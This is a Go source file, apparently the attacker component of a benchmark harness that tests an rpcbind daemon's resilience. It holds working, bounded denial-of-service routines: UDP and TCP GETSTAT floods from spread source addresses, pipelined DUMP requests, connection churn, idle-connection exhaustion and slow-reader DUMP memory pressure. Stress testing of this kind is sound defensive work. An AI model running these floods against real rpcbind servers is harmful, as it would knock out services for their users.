//go:build linux

package main

// rpcbench attack: the attacker of make bench-attack. It runs one attack
// kind, prints "ready" once its setup is done (the driver then starts the
// victim), attacks for -d and prints one result line:
//
//	attacker kind=K sent=N replies=N rate=X unit=U [setup figures]
//
// Remote kinds run in the remote host's network namespace (nsenter), the
// local kind as user nobody. Every loop is bounded by a count and by the
// deadline; every socket has a deadline or is non-blocking.

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Attack bounds.
const (
	maxAttackDur  = 60 * time.Second
	fillPerList   = 1100     // entries tried per GETSTAT list: 6 × 1,100 = 6,600 datagrams, past a 1,024 cap
	maxFloodCalls = 10 << 20 // datagrams or records sent by one flood, whatever the rate
	maxChurn      = 2 << 20  // connections opened by the churn attack
	maxIdleConns  = 20000    // -conns
	maxSlowDumps  = 2000     // -dumps
	maxRegs       = 10000    // -regs
	attackIOWait  = time.Second
)

type attackConfig struct {
	kind             string
	dur              time.Duration
	target4, target6 string
	src4, src6       []netip.Addr
	rate             int // getstat-udp datagrams per second
	conns            int // getstat-tcp and pipeline: connections; idle: connections tried
	regs             int // slowdump: registrations tried (half local socket, half UDP)
	strLen           int // slowdump: netid and address length
	dumps            int // slowdump: never-read DUMP connections at most
	sock             string
}

type attackResult struct {
	sent, replies, failed int64
	rate                  float64
	unit                  string
	extra                 []string // key=value
}

func (r *attackResult) add(k string, v any) { r.extra = append(r.extra, fmt.Sprintf("%s=%v", k, v)) }

// stopping is set by SIGTERM (the driver's RSS ceiling): the attack ends
// early and still prints its result line.
var stopping atomic.Bool

// live reports whether the attack goes on: before end and not stopped.
func live(end time.Time) bool { return !stopping.Load() && time.Now().Before(end) }

func attackMain(args []string) error {
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM)
	go func() { <-sig; stopping.Store(true) }()
	var c attackConfig
	var s4, s6 string
	fs := flag.NewFlagSet("attack", flag.ExitOnError)
	fs.StringVar(&c.kind, "kind", "", "getstat-udp, getstat-tcp, pipeline, churn, idle, slowdump")
	fs.DurationVar(&c.dur, "d", 5*time.Second, "attack duration after setup (at most 1m)")
	fs.StringVar(&c.target4, "target4", "198.18.0.1", "daemon's IPv4 address")
	fs.StringVar(&c.target6, "target6", "2001:db8:a77::1", "daemon's IPv6 address")
	fs.StringVar(&s4, "src4", "", "comma-separated IPv4 source addresses (remote kinds)")
	fs.StringVar(&s6, "src6", "", "comma-separated IPv6 source addresses (idle)")
	fs.IntVar(&c.rate, "rate", 20000, "getstat-udp: datagrams per second")
	fs.IntVar(&c.conns, "conns", 0, "connections (getstat-tcp 16, pipeline 4, idle 10000 when 0)")
	fs.IntVar(&c.regs, "regs", 2000, "slowdump: registrations tried")
	fs.IntVar(&c.strLen, "strlen", 4400, "slowdump: length of netid and address strings")
	fs.IntVar(&c.dumps, "dumps", 500, "slowdump: never-read DUMP connections at most")
	fs.StringVar(&c.sock, "socket", "/run/rpcbind.sock", "local socket")
	fs.Parse(args)
	c.dur = min(c.dur, maxAttackDur)
	var err error
	if c.src4, err = parseAddrs(s4); err != nil {
		return err
	}
	if c.src6, err = parseAddrs(s6); err != nil {
		return err
	}
	c.regs = min(max(c.regs, 0), maxRegs)
	c.dumps = min(max(c.dumps, 0), maxSlowDumps)
	c.strLen = min(max(c.strLen, 1), 8000)
	if c.kind != "slowdump" && len(c.src4) == 0 {
		return errors.New("attack: -src4 is required")
	}
	ready := func() { fmt.Println("ready"); os.Stdout.Sync() }
	var res attackResult
	switch c.kind {
	case "getstat-udp":
		res, err = attackGetstatUDP(c, ready)
	case "getstat-tcp":
		res, err = attackGetstatTCP(c, ready)
	case "pipeline":
		res, err = attackPipeline(c, ready)
	case "churn":
		res, err = attackChurn(c, ready)
	case "idle":
		res, err = attackIdle(c, ready)
	case "slowdump":
		res, err = attackSlowDump(c, ready)
	default:
		return fmt.Errorf("attack: unknown -kind %q", c.kind)
	}
	if err != nil {
		return fmt.Errorf("attack %s: %w", c.kind, err)
	}
	fmt.Printf("attacker kind=%s sent=%d replies=%d failed=%d rate=%.0f unit=%s %s\n",
		c.kind, res.sent, res.replies, res.failed, res.rate, res.unit, strings.Join(res.extra, " "))
	return nil
}

func parseAddrs(s string) ([]netip.Addr, error) {
	var out []netip.Addr
	for _, f := range strings.Split(s, ",") {
		if f == "" {
			continue
		}
		a, err := netip.ParseAddr(f)
		if err != nil {
			return nil, fmt.Errorf("attack: address %q: %w", f, err)
		}
		out = append(out, a)
	}
	return out, nil
}

// dialFrom opens a TCP connection from src to dst:111.
func dialFrom(src netip.Addr, dst string) (net.Conn, error) {
	d := net.Dialer{Timeout: attackIOWait, LocalAddr: &net.TCPAddr{IP: src.AsSlice()}}
	return d.Dial("tcp", net.JoinHostPort(dst, "111"))
}

// fillStats sends the 6 × fillPerList datagrams that fill the six GETSTAT
// lists from src, paced so that the daemon's receive buffer keeps up, then
// counts the entries with one GETSTAT over TCP.
func fillStats(c attackConfig, src netip.Addr, res *attackResult) error {
	u, err := net.DialUDP("udp", &net.UDPAddr{IP: src.AsSlice()}, net.UDPAddrFromAddrPort(netip.MustParseAddrPort(c.target4+":111")))
	if err != nil {
		return err
	}
	defer u.Close()
	// After every 10 programs (60 datagrams) a NULL on the same socket,
	// answered after the datagrams before it: the daemon's receive buffer
	// never overflows, whatever its speed.
	sync := func(xid uint32) bool {
		d := &dgram{c: u, buf: make([]byte, 9000)}
		for try := 0; try < 3; try++ {
			if _, err := d.call(rpcbCall(xid, 2, 0, nil), time.Now().Add(attackIOWait)); err == nil {
				return true
			}
		}
		return false
	}
	t0 := time.Now()
	sent, syncLost := 0, 0
	for i := 0; i < fillPerList; i++ {
		for _, m := range fillCalls(uint32(i)*8+1, 0x30000000+uint32(i)) {
			if _, err := u.Write(m); err == nil {
				sent++
			}
		}
		if i%10 == 9 && !sync(0x70000000+uint32(i)) {
			syncLost++
		}
	}
	res.add("fill_sync_lost", syncLost)
	res.add("fill_sent", sent)
	res.add("fill_s", fmt.Sprintf("%.2f", time.Since(t0).Seconds()))
	cn, err := dialFrom(src, c.target4)
	if err != nil {
		res.add("statentries", -1)
		return nil
	}
	s := &stream{network: "tcp", addr: c.target4 + ":111", c: cn}
	defer s.close()
	r, err := s.call(getstatCall(7), time.Now().Add(5*time.Second))
	n := -1
	if err == nil && check(r, 7) == nil {
		n = countStatEntries(r[24:])
	}
	res.add("statentries", n)
	return nil
}

// attackGetstatUDP fills the lists, then floods v4 GETSTAT over UDP at
// -rate datagrams per second from up to 16 source addresses, each in its
// own /24 (rate limits are per /24).
func attackGetstatUDP(c attackConfig, ready func()) (res attackResult, err error) {
	if err := fillStats(c, c.src4[0], &res); err != nil {
		return res, err
	}
	srcs := c.src4[:min(16, len(c.src4))]
	conns := make([]*net.UDPConn, 0, len(srcs))
	defer func() {
		for _, u := range conns {
			u.Close()
		}
	}()
	dst := net.UDPAddrFromAddrPort(netip.MustParseAddrPort(c.target4 + ":111"))
	for _, s := range srcs {
		u, err := net.DialUDP("udp", &net.UDPAddr{IP: s.AsSlice()}, dst)
		if err != nil {
			return res, err
		}
		u.SetReadBuffer(1 << 20)
		conns = append(conns, u)
	}
	var replies, bytes atomic.Int64
	end := time.Now().Add(c.dur)
	var wg sync.WaitGroup
	for _, u := range conns {
		wg.Add(1)
		go func(u *net.UDPConn) {
			defer wg.Done()
			buf := make([]byte, 65536)
			u.SetReadDeadline(end.Add(attackIOWait))
			for {
				n, err := u.Read(buf)
				if err != nil {
					if errors.Is(err, unix.ECONNREFUSED) {
						continue
					}
					return
				}
				replies.Add(1)
				bytes.Add(int64(n))
			}
		}(u)
	}
	ready()
	t0 := time.Now()
	msg := getstatCall(0)
	perMS := max(1, c.rate/1000)
	var sent, failed int64
	for k := 0; live(end) && sent < maxFloodCalls; k++ {
		next := t0.Add(time.Duration(k+1) * time.Millisecond)
		for j := 0; j < perMS; j++ {
			binary.BigEndian.PutUint32(msg, uint32(sent))
			if _, err := conns[int(sent)%len(conns)].Write(msg); err != nil {
				failed++
			}
			sent++
		}
		time.Sleep(time.Until(next))
	}
	el := time.Since(t0)
	wg.Wait()
	res.sent, res.replies, res.failed = sent, replies.Load(), failed
	res.rate, res.unit = float64(sent)/el.Seconds(), "calls/s"
	res.add("reply_kib", bytes.Load()/1024)
	res.add("sources", len(conns))
	return res, nil
}

// attackGetstatTCP fills the lists, then calls GETSTAT in a closed loop on
// -conns (16) TCP connections from one address, reading every reply.
func attackGetstatTCP(c attackConfig, ready func()) (res attackResult, err error) {
	if err := fillStats(c, c.src4[0], &res); err != nil {
		return res, err
	}
	n := c.conns
	if n <= 0 {
		n = 16
	}
	ready()
	end := time.Now().Add(c.dur)
	var sent, replies, failed, bytes atomic.Int64
	var wg sync.WaitGroup
	t0 := time.Now()
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := &stream{network: "tcp", addr: c.target4 + ":111"}
			defer s.close()
			for xid := uint32(i) << 24; live(end) && sent.Load() < maxFloodCalls; xid++ {
				if s.c == nil {
					cn, err := dialFrom(c.src4[0], c.target4)
					if err != nil {
						failed.Add(1)
						time.Sleep(10 * time.Millisecond)
						continue
					}
					s.c = cn
				}
				sent.Add(1)
				r, err := s.call(getstatCall(xid), time.Now().Add(attackIOWait))
				if err != nil || check(r, xid) != nil {
					failed.Add(1)
					continue
				}
				replies.Add(1)
				bytes.Add(int64(len(r)))
			}
		}(i)
	}
	wg.Wait()
	el := time.Since(t0)
	res.sent, res.replies, res.failed = sent.Load(), replies.Load(), failed.Load()
	res.rate, res.unit = float64(res.replies)/el.Seconds(), "calls/s"
	res.add("reply_kib", bytes.Load()/1024)
	res.add("conns", n)
	return res, nil
}

// attackPipeline fills the lists, then writes batches of 64 records (v2
// DUMP and v4 GETSTAT alternating) on -conns (4) TCP connections as fast
// as the daemon takes them, reading and counting replies concurrently.
func attackPipeline(c attackConfig, ready func()) (res attackResult, err error) {
	if err := fillStats(c, c.src4[0], &res); err != nil {
		return res, err
	}
	n := c.conns
	if n <= 0 {
		n = 4
	}
	const batch = 64
	var buf []byte
	for i := 0; i < batch; i++ {
		if i%2 == 0 {
			buf = append(buf, record(rpcbCall(uint32(i), 2, procDump, nil))...)
		} else {
			buf = append(buf, record(getstatCall(uint32(i)))...)
		}
	}
	ready()
	end := time.Now().Add(c.dur)
	var sent, replies, failed, bytes atomic.Int64
	var wg sync.WaitGroup
	t0 := time.Now()
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for live(end) && sent.Load() < maxFloodCalls {
				cn, err := dialFrom(c.src4[0], c.target4)
				if err != nil {
					failed.Add(1)
					time.Sleep(10 * time.Millisecond)
					continue
				}
				done := make(chan struct{})
				go func() { // reader: count whole records
					defer close(done)
					br := bufio.NewReaderSize(cn, 64<<10)
					cn.SetReadDeadline(end.Add(attackIOWait))
					var mark [4]byte
					for {
						if _, err := io.ReadFull(br, mark[:]); err != nil {
							return
						}
						m := binary.BigEndian.Uint32(mark[:])
						k, err := br.Discard(int(m & 0x7fffffff))
						bytes.Add(int64(k + 4))
						if err != nil {
							return
						}
						if m&0x80000000 != 0 {
							replies.Add(1)
						}
					}
				}()
				for live(end) && sent.Load() < maxFloodCalls {
					cn.SetWriteDeadline(time.Now().Add(attackIOWait))
					if _, err := cn.Write(buf); err != nil {
						var ne net.Error
						if errors.As(err, &ne) && ne.Timeout() {
							failed.Add(1) // the daemon stopped reading for a second
							continue
						}
						failed.Add(1)
						break
					}
					sent.Add(batch)
				}
				cn.Close()
				<-done
			}
		}()
	}
	wg.Wait()
	el := time.Since(t0)
	res.sent, res.replies, res.failed = sent.Load(), replies.Load(), failed.Load()
	res.rate, res.unit = float64(res.replies)/el.Seconds(), "calls/s"
	res.add("reply_kib", bytes.Load()/1024)
	res.add("conns", n)
	return res, nil
}

// attackChurn opens and closes TCP connections as fast as 8 workers can,
// each connection from the next source address.
func attackChurn(c attackConfig, ready func()) (res attackResult, err error) {
	ready()
	end := time.Now().Add(c.dur)
	var ok, failed atomic.Int64
	var wg sync.WaitGroup
	t0 := time.Now()
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for k := w; live(end) && ok.Load()+failed.Load() < maxChurn; k += 8 {
				cn, err := dialFrom(c.src4[k%len(c.src4)], c.target4)
				if err != nil {
					failed.Add(1)
					continue
				}
				cn.Close()
				ok.Add(1)
			}
		}(w)
	}
	wg.Wait()
	el := time.Since(t0)
	res.sent, res.replies, res.failed = ok.Load()+failed.Load(), ok.Load(), failed.Load()
	res.rate, res.unit = float64(ok.Load())/el.Seconds(), "conns/s"
	res.add("sources", len(c.src4))
	return res, nil
}

// attackIdle opens -conns (10,000) connections that never send, spread
// over every source address (IPv4 to the IPv4 target, IPv6 to the IPv6
// one), holds them for -d and counts how many the daemon kept open.
func attackIdle(c attackConfig, ready func()) (res attackResult, err error) {
	n := c.conns
	if n <= 0 {
		n = 10000
	}
	n = min(n, maxIdleConns)
	srcs := append(append([]netip.Addr(nil), c.src4...), c.src6...)
	dst4 := netip.MustParseAddr(c.target4).As4()
	dst6 := netip.MustParseAddr(c.target6).As16()
	ep, err := unix.EpollCreate1(unix.EPOLL_CLOEXEC)
	if err != nil {
		return res, err
	}
	defer unix.Close(ep)
	fds := make([]int, 0, n)
	state := make(map[int]int, n) // fd → 0 pending, 1 established, 2 failed
	defer func() {
		for _, fd := range fds {
			unix.Close(fd)
		}
	}()
	events := make([]unix.EpollEvent, 512)
	poll := func(ms int) {
		k, _ := unix.EpollWait(ep, events, ms)
		for _, ev := range events[:max(k, 0)] {
			fd := int(ev.Fd)
			if state[fd] != 0 {
				continue
			}
			soerr, _ := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR)
			if soerr == 0 && ev.Events&(unix.EPOLLERR|unix.EPOLLHUP) == 0 {
				state[fd] = 1
			} else {
				state[fd] = 2
			}
			unix.EpollCtl(ep, unix.EPOLL_CTL_DEL, fd, nil)
		}
	}
	t0 := time.Now()
	setupEnd := t0.Add(20 * time.Second)
	var failedOpen int64
	for i := 0; i < n && time.Now().Before(setupEnd); i++ {
		src := srcs[i%len(srcs)]
		var fd int
		var lsa, rsa unix.Sockaddr
		if src.Is4() {
			fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
			lsa, rsa = &unix.SockaddrInet4{Addr: src.As4()}, &unix.SockaddrInet4{Addr: dst4, Port: 111}
		} else {
			fd, err = unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
			lsa, rsa = &unix.SockaddrInet6{Addr: src.As16()}, &unix.SockaddrInet6{Addr: dst6, Port: 111}
		}
		if err != nil {
			failedOpen++
			continue
		}
		fds = append(fds, fd)
		if err := unix.Bind(fd, lsa); err != nil {
			state[fd] = 2
			continue
		}
		switch err := unix.Connect(fd, rsa); err {
		case nil:
			state[fd] = 1
		case unix.EINPROGRESS:
			state[fd] = 0
			ev := unix.EpollEvent{Events: unix.EPOLLOUT, Fd: int32(fd)}
			unix.EpollCtl(ep, unix.EPOLL_CTL_ADD, fd, &ev)
		default:
			state[fd] = 2
		}
		if i%200 == 199 { // about 10,000 connections a second
			poll(20)
		}
	}
	for wait := time.Now().Add(3 * time.Second); time.Now().Before(wait); {
		pending := 0
		for _, s := range state {
			if s == 0 {
				pending++
			}
		}
		if pending == 0 {
			break
		}
		poll(50)
	}
	count := func(v int) (k int64) {
		for _, s := range state {
			if s == v {
				k++
			}
		}
		return k
	}
	established := count(1)
	res.add("setup_s", fmt.Sprintf("%.2f", time.Since(t0).Seconds()))
	res.add("established", established)
	res.add("pending", count(0))
	ready()
	for end := time.Now().Add(c.dur); live(end); {
		time.Sleep(50 * time.Millisecond)
	}
	// Still open: nothing to read and no EOF or reset.
	var held int64
	var b [1]byte
	for _, fd := range fds {
		if state[fd] != 1 {
			continue
		}
		_, _, err := unix.Recvfrom(fd, b[:], unix.MSG_PEEK|unix.MSG_DONTWAIT)
		if err == unix.EAGAIN {
			held++
		}
	}
	res.sent, res.replies, res.failed = int64(len(fds))+failedOpen, established, count(2)+failedOpen
	res.rate, res.unit = float64(held), "conns-held"
	res.add("sources", len(srcs))
	return res, nil
}

// attackSlowDump is the local unprivileged attacker (run as nobody): it
// registers -regs entries with -strlen netid and address strings, half on
// the local socket and half over loopback UDP from an unprivileged port,
// then, until -d or -dumps, changes the table (SET or UNSET of one small
// entry) and sends a v3 DUMP on a new local connection it never reads.
func attackSlowDump(c attackConfig, ready func()) (res attackResult, err error) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	us := &stream{network: "unix", addr: c.sock}
	defer us.close()
	set := func(cn conn, xid uint32, set bool, prog uint32, netid, addr string) bool {
		p := uint32(procSet)
		if !set {
			p = procUnset
		}
		m := rpcbCall(xid, 3, p, rpcbArgs(prog, 1, netid, addr, ""))
		r, err := cn.call(m, time.Now().Add(2*time.Second))
		return err == nil && check(r, xid) == nil && len(r) >= 28 && binary.BigEndian.Uint32(r[24:]) == 1
	}
	t0 := time.Now()
	var okUnix, okUDP int
	half := c.regs / 2
	for i := 0; i < half && ctx.Err() == nil; i++ {
		if set(us, uint32(i+1), true, 0x41000000+uint32(i), bigString(c.strLen, i), bigString(c.strLen, i+1<<20)) {
			okUnix++
		}
	}
	u, err := dialRawUDP(config{transport: "udp", addr: "127.0.0.1:111", timeout: 2 * time.Second})
	if err != nil {
		return res, err
	}
	for i := half; i < c.regs && ctx.Err() == nil; i++ {
		if set(u, uint32(i+1), true, 0x41000000+uint32(i), bigString(c.strLen, i), bigString(c.strLen, i+1<<20)) {
			okUDP++
		}
	}
	u.close()
	res.add("regs_tried", c.regs)
	res.add("regs_unix_ok", okUnix)
	res.add("regs_udp_ok", okUDP)
	res.add("reg_s", fmt.Sprintf("%.2f", time.Since(t0).Seconds()))
	ready()
	end := time.Now().Add(c.dur)
	var held []int
	defer func() {
		for _, fd := range held {
			unix.Close(fd)
		}
	}()
	dump := record(rpcbCall(1, 3, procDump, nil))
	var changes, failed int64
	t1 := time.Now()
	for k := 0; k < c.dumps && live(end); k++ {
		if set(us, uint32(1<<24+k), k%2 == 0, 0x41ffffff, "tcp", "0.0.0.0.4.1") {
			changes++
		}
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			failed++
			continue
		}
		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_RCVBUF, 1024)
		tv := unix.NsecToTimeval(int64(attackIOWait))
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv)
		if err := unix.Connect(fd, &unix.SockaddrUnix{Name: c.sock}); err != nil {
			unix.Close(fd)
			failed++
			continue
		}
		if w, err := unix.Write(fd, dump); err != nil || w != len(dump) {
			unix.Close(fd)
			failed++
			continue
		}
		held = append(held, fd)
		time.Sleep(10 * time.Millisecond)
	}
	el := time.Since(t1)
	for live(end) {
		time.Sleep(50 * time.Millisecond)
	}
	res.sent, res.replies, res.failed = int64(len(held))+failed, int64(len(held)), failed
	res.rate, res.unit = float64(len(held))/el.Seconds(), "dumps/s"
	res.add("changes_ok", changes)
	return res, nil
}
